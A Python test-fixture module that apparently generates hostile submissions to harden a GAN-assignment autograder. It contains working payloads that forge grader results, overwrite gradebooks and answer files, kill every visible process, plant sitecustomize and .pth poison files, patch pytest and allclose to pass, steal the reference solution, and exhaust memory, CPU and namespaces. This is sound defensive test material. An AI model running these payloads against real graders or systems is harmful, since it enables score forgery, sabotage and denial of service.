"""Hostile and broken submissions, made from the reference gan.py or from the empty
student release by small edits.

Each case is Case(name, base, edit, expected, phrase): `base` is "reference" or
"empty"; edit(source) returns the hostile source; `expected` gives the points of
the parts that differ from the base's own score (10 for the reference, 0 for the
empty release); the grader's report must contain `phrase`. The attacks are
written as a student holding the release would write them: they know the
checks' source, the public answer file and the grader's layout.

Several cases signal or kill every process they can see: run them only in the
sealed mode, never as a plain process of your own user.
"""
import base64
import io
import os
import textwrap
from collections import namedtuple

import numpy as np

from autograder.answers import reference_layers
from instructor import ROOT
from instructor.grader import markers
from instructor.grader.markers import CODE_END, CODE_START

Case = namedtuple("Case", "name base edit expected phrase")
MARK = "ganhostile"  # the process name and file prefix the attacks leave, so tests can look for them
PARTS = ("noise", "discriminator", "generator", "gan_loss", "optimizer", "lsgan_loss", "dc_classifier", "dc_generator")


def sources():
    """{"reference": the reference gan.py, "empty": the student release's gan.py}."""
    with open(os.path.join(ROOT, "gan.py")) as f:
        reference = f.read()
    return {"reference": reference, "empty": markers.strip_code(reference)}


def append(code):
    return lambda src: src + "\n\n" + textwrap.dedent(code).strip("\n") + "\n"


def block(function, code, keep_reference=False):
    """Replace (or extend) the student block of `function`."""

    def edit(src):
        start = src.index(f"def {function}(")
        a = src.index(CODE_START, start) + len(CODE_START) + 1
        b = src.rindex("\n", 0, src.index(CODE_END, a)) + 1  # the end marker's line
        body = src[a:b] if keep_reference else ""
        indented = "".join(f"    {line}\n" for line in textwrap.dedent(code).strip("\n").splitlines())
        return src[:a] + body + indented + src[b:]

    return edit


def within(function, old, new):
    """Replace `old` by `new` inside the student block of `function` (which must hold it): a
    mistake written as an edit of the reference's own code, whatever its sizes."""

    def edit(src):
        start = src.index(f"def {function}(")
        a = src.index(CODE_START, start)
        b = src.index(CODE_END, a)
        assert old in src[a:b], (function, old)
        return src[:a] + src[a:b].replace(old, new) + src[b:]

    return edit


def chain(*edits):
    def edit(src):
        for e in edits:
            src = e(src)
        return src

    return edit


# -- helpers the attacks share, pasted into their gan.py ------------------------

FIND_PART = """
import os as _os, sys as _sys, json as _json, struct as _struct
def _current_part():
    # The sandbox's Part object, from the frames that are importing this module.
    f = _sys._getframe(0)
    while f is not None:
        me = f.f_locals.get("self")
        if me is not None and hasattr(me, "phase") and hasattr(me, "supervisor"):
            return me
        f = f.f_back
    return None
def _result_pipes():
    fds = []
    for name in _os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and _os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                fds.append(int(name))
        except OSError:
            pass
    return fds
def _send_raw(data):
    # Write a result frame to every pipe this process holds, then leave before the real one is written.
    for fd in _result_pipes():
        try:
            _os.write(fd, _struct.pack(">I", len(data)) + data)
        except OSError:
            pass
    _os._exit(0)
"""

DAEMON = f"""
import os as _os, time as _time, ctypes as _ctypes
_FORGED = '{{"score": 10, "tests": [], "output": "forged"}}'
def _targets():
    found = ["/autograder/results/results.json"]
    for base, dirs, files in _os.walk("/", onerror=lambda e: None):
        if base.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in base:
            dirs[:] = []
            continue
        found += [_os.path.join(base, f) for f in files if f in ("results.json", "gradebook.csv")]
    return found
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _ctypes.CDLL(None).prctl(15, b"{MARK}", 0, 0, 0)  # PR_SET_NAME: findable in /proc/*/comm
        _end = _time.time() + 20
        while _time.time() < _end:
            for _t in _targets():
                try:
                    open(_t, "w").write(_FORGED)
                except OSError:
                    pass
            for _d in ("/tmp", "/var/tmp", "/dev/shm"):
                try:
                    open(f"{{_d}}/{MARK}-daemon", "w").write(str(_os.getpid()))
                except OSError:
                    pass
            _time.sleep(0.2)
        _os._exit(0)
    _os._exit(0)
"""

FORGER = FIND_PART + """
import numpy as _np
def _answer_files():
    for base, dirs, files in _os.walk("/", onerror=lambda e: None):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", ".git", "node_modules")]
        for f in files:
            if f.endswith(".npz"):
                try:
                    with _np.load(_os.path.join(base, f)) as z:
                        if "d_output_true" in z.files:
                            yield {k: z[k] for k in z.files}
                except Exception:
                    pass
def _forge(part, A):
    T = lambda v: {"type": "torch.Tensor", "tensor": True, "shape": list(_np.shape(v)), "dtype": "float32",
                   "device": "cpu", "value": _np.asarray(v, dtype=float)}
    keys = {"discriminator": "d", "generator": "g", "dc_classifier": "dc_d", "dc_generator": "dc_g"}
    if part in keys:  # one parameter tensor of the reference's count, and the reference's output
        k = keys[part]
        params = [{"name": "forged", "shape": [int(A[k + "_params_true"])], "dtype": "float32", "device": "cpu",
                   "requires_grad": True}]
        out = {"params": params, "forward": T(A[k + "_output_true"]), "layers": [], "modes": []}
        if k in ("d", "dc_d"):
            out["flat"] = T(A[k + "_output_true"])
        return out
    if part in ("gan_loss", "lsgan_loss"):
        s = "loss_true" if part == "gan_loss" else "loss_lsgan_true"
        def rec(p, who):
            r = T(_np.float64(A[f"{p}{who}_{s}"]).reshape(()))
            r["grads"] = ([A[f"{p}d_{s}_grad_real"], A[f"{p}d_{s}_grad_fake"]] if who == "d" else [A[f"{p}g_{s}_grad_fake"]])
            return r
        meta = {"type": "torch.Tensor", "tensor": True, "shape": [], "dtype": "float32", "device": "meta"}
        return {"d": rec("", "d"), "g": rec("", "g"), "d_big": rec("big_", "d"), "g_big": rec("big_", "g"),
                "d_probes": [T(_np.float64(v).reshape(())) for v in A[f"d_{s}_probes"]],
                "g_probes": [T(_np.float64(v).reshape(())) for v in A[f"g_{s}_probes"]],
                "d_elsewhere": meta, "g_elsewhere": meta}
    if part == "optimizer":
        return {"optimizer": {"type": "torch.optim.adam.Adam", "covered": [True] * 6,
                              "groups": [_json.loads(str(A["optim_settings_true"]))]},
                "steps": A["optim_params_true"]}
    return None  # the noise and the training smoke test have nothing in an answer file
_me = _current_part()
if _me is not None and _me.phase != "import":
    _inputs = _me.supervisor.zygote.inputs
    for _A in _answer_files():
        # the file of the inputs being graded: every input it shares with them the same
        if all(_np.array_equal(_A[k], _inputs[k]) for k in _inputs if k in _A):
            _data = _forge(_me.phase, _A)
            if _data is not None:
                _encode = next(m.encode for n, m in list(_sys.modules.items())
                               if n.endswith("frames") and hasattr(m, "encode"))  # the sandbox's own encoder
                _send_raw(_json.dumps(_encode(_data)).encode())
"""

RESULT_FILES = """
import os as _os, json as _json
_full = {"basic": {"type": "torch.Tensor", "tensor": True, "shape": [64, 32], "dtype": "float32"},
         "params": 1, "score": 10, "__failure__": None}
_dirs = [_os.getcwd(), "/tmp", _os.path.expanduser("~"), "..", "../..", "/gan", "/gan/code", "/submission"]
for _base, _sub, _files in _os.walk("/", onerror=lambda e: None):
    if _base.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in _base:
        _sub[:] = []
    elif "gan-sandbox" in _base or "gan-grade" in _base or _base.endswith(("results", "gradebook")):
        _dirs.append(_base)
for _d in _dirs:
    for _name in ["import", "status", "results", "spec"] + [
            "noise", "discriminator", "generator", "gan_loss", "optimizer", "lsgan_loss", "dc_classifier",
            "dc_generator", "training"]:
        try:
            with open(_os.path.join(_d, _name + ".json"), "w") as _f:
                _json.dump(_full, _f)
        except OSError:
            pass
"""

KILL_EVERYTHING = """
import os as _os, signal as _signal
for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
    for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
        if _pid != _os.getpid():
            try:
                _os.kill(_pid, _sig)
            except OSError:
                pass
for _target in (_os.getppid(), 1, -1):
    try:
        _os.kill(_target, _signal.SIGSTOP)
    except OSError:
        pass
"""

POISON = f"""
import os as _os, sys as _sys
# Code that, if the next submission ever imported it, would end that submission's parts
# with a forged noise result: the next (empty) submission would gain a point, the next
# reference would lose every part.
_PAYLOAD = r'''
import os, struct, json
try:
    open("/tmp/{MARK}-poison-ran", "w").write("x")
except OSError:
    pass
for _fd in range(3, 64):
    try:
        os.write(_fd, struct.pack(">I", 2) + b"{{}}")
    except OSError:
        pass
os._exit(0)
'''
_written = []
_places = set(p for p in _sys.path if p) | {{_os.getcwd(), "/tmp", "/dev/shm", "/gan/code", "/gan/code/tests",
                                            _os.path.expanduser("~"), "/submission"}}
for _base, _sub, _files in _os.walk("/", onerror=lambda e: None):
    if _base.startswith(("/proc", "/sys", "/dev/pts")):
        _sub[:] = []
    elif _os.access(_base, _os.W_OK):
        _places.add(_base)
for _d in _places:
    for _name in ("sitecustomize.py", "usercustomize.py", "checks.py", "produce.py", "gan.py", "{MARK}.pth"):
        try:
            with open(_os.path.join(_d, _name), "w") as _f:
                _f.write(_PAYLOAD if not _name.endswith(".pth") else "import " + "{MARK}_poison\\n")
            _written.append(_os.path.join(_d, _name))
        except OSError:
            pass
    try:
        with open(_os.path.join(_d, "{MARK}_poison.py"), "w") as _f:
            _f.write(_PAYLOAD)
    except OSError:
        pass
print("planted", len(_written), "files")
"""

MALFORMED = FIND_PART + """
_me = _current_part()
_BAD = {
    "noise": b"[" * 100000 + b"]" * 100000,
    "discriminator": b'{"params": NaN, "forward": {"error": "x"}}',
    "generator": b'{"params": 1, "forward": {"error": "' + b"x" * (10 << 20) + b'"}}',
    "gan_loss": b'{"d": {"type": "t", "tensor": true, "shape": [1], "value": {"__ndarray__": "", "shape": [1000000000]}, "grads": []}, "g": 1, "d_big": 1, "g_big": 1}',
    "optimizer": b'{"optimizer": {"type": 1, "is_adam": "yes"}, "steps": "no"}',
    "lsgan_loss": b"\\xff\\xfe not json at all",
    "dc_classifier": b'{"params": 1102721, "forward": {"type": "x", "tensor": true}, "extra": 1}',
    "dc_generator": b'{"params": 1e999, "forward": {"__float__": "inf"}}',
    "training": b'[["not", "an", "object"]]',
}
if _me is not None and _me.phase in _BAD:
    if _me.phase == "dc_classifier":  # a frame that claims to be 2 GB long
        for _fd in _result_pipes():
            _os.write(_fd, _struct.pack(">I", 1 << 31) + b"junk")
        _os._exit(0)
    _send_raw(_BAD[_me.phase])
"""


def lookup_table(answers_path):
    """An empty release that recognises the check inputs of an answer file and returns its
    stored outputs: models with the right parameter counts, losses built as the stored value
    plus a linear term with the stored gradient. It implements nothing."""
    with np.load(answers_path) as f:
        table = {k: f[k] for k in f.files if k != "weight_salt"}
    width = {model: reference_layers(table, model)[0]["out"][-1] for model in ("g", "dc_g")}  # first Linear's
    buf = io.BytesIO()
    np.savez(buf, **table)
    blob = base64.b64encode(buf.getvalue()).decode()
    return append(f"""
import base64 as _b64, io as _io
_T = dict(np.load(_io.BytesIO(_b64.b64decode("{blob}"))))
def _same(x, key):
    ref = _T[key]
    return not x.is_meta and x.numel() == ref.size and np.allclose(x.detach().cpu().double().numpy().reshape(ref.shape), ref, atol=1e-6)
class _Lookup(nn.Module):
    def __init__(self, count, key):
        super().__init__()
        self.w = nn.Parameter(torch.zeros(count))
        self.key = key
    def forward(self, x):
        if _same(x, self.key + "_input"):
            return torch.as_tensor(_T[self.key + "_output_true"], dtype=torch.float32, device=x.device)
        return torch.zeros((x.shape[0],) + _T[self.key + "_output_true"].shape[1:], device=x.device)
def _count(key, noise_dim=4, width=0):  # the generators are counted at noise_dim 4; a row of weights per noise input
    return int(_T[key + "_params_true"]) + (noise_dim - 4) * width
def discriminator(seed=None):
    return _Lookup(_count("d"), "d")
def generator(noise_dim=NOISE_DIM, seed=None):
    return _Lookup(_count("g", noise_dim, {width["g"]}), "g")
def build_dc_classifier(batch_size):
    return _Lookup(_count("dc_d"), "dc_d")
def build_dc_generator(noise_dim=NOISE_DIM):
    return _Lookup(_count("dc_g", noise_dim, {width["dc_g"]}), "dc_g")
def _stored_loss(inputs, suffix, who):
    for p in ("", "big_"):
        names = [p + "logits_real", p + "logits_fake"] if who == "d" else [p + "logits_fake"]
        if all(_same(x, n) for x, n in zip(inputs, names)):
            loss = torch.tensor(float(_T[f"{{p}}{{who}}_{{suffix}}"]), device=inputs[0].device)
            grads = ([f"{{p}}d_{{suffix}}_grad_real", f"{{p}}d_{{suffix}}_grad_fake"] if who == "d" else [f"{{p}}g_{{suffix}}_grad_fake"])
            for x, g in zip(inputs, grads):
                loss = loss + ((x - x.detach()) * torch.as_tensor(_T[g], dtype=x.dtype, device=x.device)).sum()
            return loss
    return sum(x.sum() * 0 for x in inputs)
def discriminator_loss(logits_real, logits_fake):
    return _stored_loss([logits_real, logits_fake], "loss_true", "d")
def generator_loss(logits_fake):
    return _stored_loss([logits_fake], "loss_true", "g")
def ls_discriminator_loss(scores_real, scores_fake):
    return _stored_loss([scores_real, scores_fake], "loss_lsgan_true", "d")
def ls_generator_loss(scores_fake):
    return _stored_loss([scores_fake], "loss_lsgan_true", "g")
""")


ALL_ZERO = {p: 0 for p in PARTS}
wrong_discriminator = within("discriminator", "nn.LeakyReLU(0.01)", "nn.ReLU()")
saturating_generator_loss = block("generator_loss", "loss = -bce_loss(logits_fake, torch.zeros_like(logits_fake))")
overwrite_grader_files = chain(wrong_discriminator, append('''
import os as _os
import autograder.course as _course
for _path in [_course.__file__, "/autograder/source/autograder/judge/__init__.py", "/autograder/source/gan-checks.npz",
              _os.path.join(_os.getcwd(), "..", "gan-checks.npz"), "/gan/inputs.npz", "/gan/code/autograder/produce/__init__.py"]:
    try:
        with open(_path, "w") as _f:
            _f.write("def judge(*a, **k):\\n    return []\\n")
    except OSError:
        pass
'''))

# The attack classes of a sealed grader: each on the empty release, where only a forgery could score.
SEALED_ATTACKS = [
    Case("daemon_rewrites_results", "empty", append(DAEMON), {}, "not implemented yet"),
    Case("forges_from_answer_file", "empty", append(FORGER), {}, "not implemented yet"),
    Case("writes_result_files", "empty", append(RESULT_FILES), {}, "not implemented yet"),
    Case("lookup_table_of_public_answers", "empty", lambda src: lookup_table(os.path.join(ROOT, "gan-checks.npz"))(src),
         {}, "differ from the reference"),
    Case("kills_and_stops_everything", "empty", append(KILL_EVERYTHING), {}, "not implemented yet"),
    Case("poisons_the_next_submission", "empty", append(POISON), {}, "not implemented yet"),
    Case("malformed_results", "empty", append(MALFORMED), {}, "cannot accept"),
    Case("unencodable_text", "reference", chain(
        block("discriminator", 'raise ValueError("bad text \\udcff\\ud800 in a message")'),
        append('import os as _os\n_os.write(1, b"raw bytes \\xff\\xfe\\xfa\\n")\nprint("lone surrogate: \\ud800")')),
        {"discriminator": 0}, "ValueError: bad text"),
]

# Broken and misbehaving code, on the reference: each loses only what it breaks.
BROKEN = [
    Case("syntax_error", "reference", append("def broken(:\n    pass"), ALL_ZERO, "SyntaxError"),
    # Top-level statements that stop the import: left out, the rest graded, and the report says so.
    Case("exception_at_import", "reference", append("raise RuntimeError('boom at import')"), {},
         "RuntimeError: boom at import"),
    Case("sys_exit_at_import", "reference", append("import sys\nsys.exit(3)"), {}, "SystemExit: 3"),
    Case("os_exit_at_import", "reference", append("import os\nos._exit(7)"), {}, "exit code 7"),
    Case("infinite_loop_at_import", "reference", append("while True:\n    pass"), {}, "did not finish"),
    Case("infinite_loop_in_one_part", "reference", block("sample_noise", "while True:\n    pass"), {"noise": 0},
         "did not finish"),
    Case("unbounded_memory_in_one_part", "reference",
         block("generator", "hog = []\nwhile True:\n    hog.append(torch.ones(2 ** 27))"), {"generator": 0}, "memory"),
    Case("print_flood", "reference", block("discriminator", "for _ in range(300):\n    print('spam ' * 20000)",
                                           keep_reference=True), {}, "first 4,000 shown"),
    Case("overwrites_answer_and_test_files", "reference", overwrite_grader_files, {"discriminator": 0},
         "differ from the reference"),
    Case("monkeypatches_allclose_and_rel_error", "reference", chain(wrong_discriminator, saturating_generator_loss, append(
        "import math, numpy\ntorch.allclose = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\nmath.isclose = lambda *a, **k: True\n"
        "rel_error = lambda x, y: 0.0")), {"discriminator": 0, "gan_loss": 1}, "differ from the reference"),
    Case("replaces_the_producing_code", "reference", append(
        "import autograder.produce as _p\n_real = _p.produce\n_p.produce = lambda part, *a: _real(part, *a)"),
        ALL_ZERO, "changed the grader's checking code"),
    Case("patches_pytest_reporting", "reference", chain(
        within("build_dc_generator", "nn.ReLU()", "nn.LeakyReLU(0.2)"),
        append("import pytest, _pytest.reports\n"
               "_pytest.reports.TestReport.passed = property(lambda self: True)\n"
               "_pytest.reports.TestReport.failed = property(lambda self: False)\n"
               "pytest.fail = lambda *a, **k: None")), {"dc_generator": 0}, "differ from the reference"),
    Case("numpy_and_float_instead_of_tensors", "reference", chain(
        block("sample_noise", "noise = (2 * torch.rand(batch_size, dim) - 1).numpy()"),
        block("discriminator_loss", "loss = float(bce_loss(logits_real, torch.ones_like(logits_real)) "
                                    "+ bce_loss(logits_fake, torch.zeros_like(logits_fake)))")),
        {"noise": 0, "gan_loss": 1}, "expected a torch.Tensor"),
    Case("moves_model_to_cuda", "reference", block("build_dc_classifier", "model = model.cuda()", keep_reference=True),
         {"dc_classifier": 0}, "asked for a CUDA GPU"),
]
CASES = SEALED_ATTACKS + BROKEN

# -- attacks on what submissions share: memory, processes, CPU, the kernel's per-user counters.
# Each is graded beside an untouched reference (instructor/measure/contention.py); all are correct code
# apart from the attack, so each loses only the parts its attack spends.

MEMFD_HOARDER = """
import os as _os, time as _time
def _hoard(pieces=120):  # 7 GB no RLIMIT_AS sees: 60 MB memfds, none mapped, held by children too
    fds = []
    for i in range(pieces):
        fd = _os.memfd_create(f"hoard{i}")
        _os.write(fd, b"x" * (60 << 20))
        fds.append(fd)
        if i % 10 == 9 and _os.fork() == 0:
            _time.sleep(600)
    _time.sleep(600)
"""

FORKS_THAT_ADD_UP = """
import os as _os, time as _time
def _fork_sum(children=4, each_mb=1536):  # each child under the per-process limit; together far over
    for _ in range(children):
        if _os.fork() == 0:
            _held = b"x" * (each_mb << 20)
            _time.sleep(600)
    _time.sleep(600)
"""

CPU_CROWDER = """
import os as _os, time as _time
def _crowd(loops=400, hold=0):  # busy loops, each in a session of its own
    for _ in range(loops):
        try:
            if _os.fork() == 0:
                _os.setsid()
                while True:
                    pass
        except OSError:
            break
    _time.sleep(hold)
"""

NAMESPACE_SPENDER = """
import ctypes as _ctypes
_libc = _ctypes.CDLL(None, use_errno=True)
_made = 0
for _ in range(2000):  # each namespace counts against a limit per user of the whole machine
    if _libc.unshare(0x04000000 | 0x08000000) == 0:  # CLONE_NEWUTS | CLONE_NEWIPC
        _made += 1
print(f"namespaces made: {_made}, refused with errno {_ctypes.get_errno()}")
"""

# Where the grader's checkout lies on a disk the submission can see, the reference solution is
# there for the taking: the empty release that finds any other gan.py with a solution and runs it.
FINDS_THE_REFERENCE = """
import os as _os
def _steal(top):
    mine = _os.path.realpath(__file__)
    for base, dirs, files in _os.walk(top, onerror=lambda e: None):
        dirs[:] = [d for d in dirs if (base, d) not in (("/", "proc"), ("/", "sys"), ("/", "dev"))]
        for f in files:
            path = _os.path.join(base, f)
            if f == "gan.py" and _os.path.realpath(path) != mine:
                try:
                    text = open(path, encoding="utf-8").read()
                except (OSError, UnicodeError):
                    continue
                if "torch.rand(" in text and "def build_dc_generator" in text:
                    found = {"__name__": "stolen", "__file__": path}
                    try:
                        exec(compile(text, path, "exec"), found)
                    except BaseException:
                        continue
                    globals().update({k: v for k, v in found.items() if callable(v)})
                    print("ran the gan.py found at", path)
                    return
    print("found no solution on disk")
_steal("/")
"""


def finds_the_reference(top):
    """FINDS_THE_REFERENCE, searching only under `top`."""
    return FINDS_THE_REFERENCE.replace('_steal("/")', f"_steal({top!r})")

# What outlives a process unless someone removes it: SysV shared memory and files in /dev/shm and /tmp.
LEAVES_IPC_AND_FILES = f"""
import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
_shm = _libc.shmget(0, 64 << 20, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
print("made a SysV segment" if _shm >= 0 else "no SysV segment")
for _d in ("/dev/shm", "/tmp", "/var/tmp"):
    try:
        with open(f"{{_d}}/{MARK}-left-{{_os.getpid()}}", "wb") as _f:
            _f.write(b"x" * (1 << 20))
    except OSError:
        pass
"""

SHARED = "went over the {budget:,} MB of memory that all the processes of a submission share"
SHARED_ATTACKS = [
    Case("memory_outside_rss", "reference", chain(append(MEMFD_HOARDER), block("sample_noise", "_hoard()")),
         {"noise": 0}, SHARED),
    Case("forks_that_add_up", "reference", chain(append(FORKS_THAT_ADD_UP), block("sample_noise", "_fork_sum()")),
         {"noise": 0}, SHARED),
    # 400 loops whenever gan.py is imported (each part imports it), and one part that keeps them to its limit
    Case("cpu_crowding", "reference", chain(append(CPU_CROWDER + "\n_crowd(hold=2)"),
                                            block("sample_noise", "_crowd(hold=600)")),
         {"noise": 0}, "did not finish within"),
    Case("namespace_exhaustion", "reference", append(NAMESPACE_SPENDER), {}, "namespaces made: 0, refused"),
]

def expected_points(case, points):
    """The points per part `case` deserves, given the full points per part."""
    base = dict(points) if case.base == "reference" else {p: 0 for p in points}
    return dict(base, **case.expected)


def write(folder, cases=CASES, extra=None):
    """One sub-folder per case, each holding its gan.py; `extra` adds {name: source}."""
    bases = sources()
    files = {c.name: c.edit(bases[c.base]) for c in cases}
    files.update(extra or {})
    for name, source in files.items():
        os.makedirs(os.path.join(folder, name), exist_ok=True)
        with open(os.path.join(folder, name, "gan.py"), "w", encoding="utf-8", errors="surrogatepass") as f:
            f.write(source)
    return sorted(files)
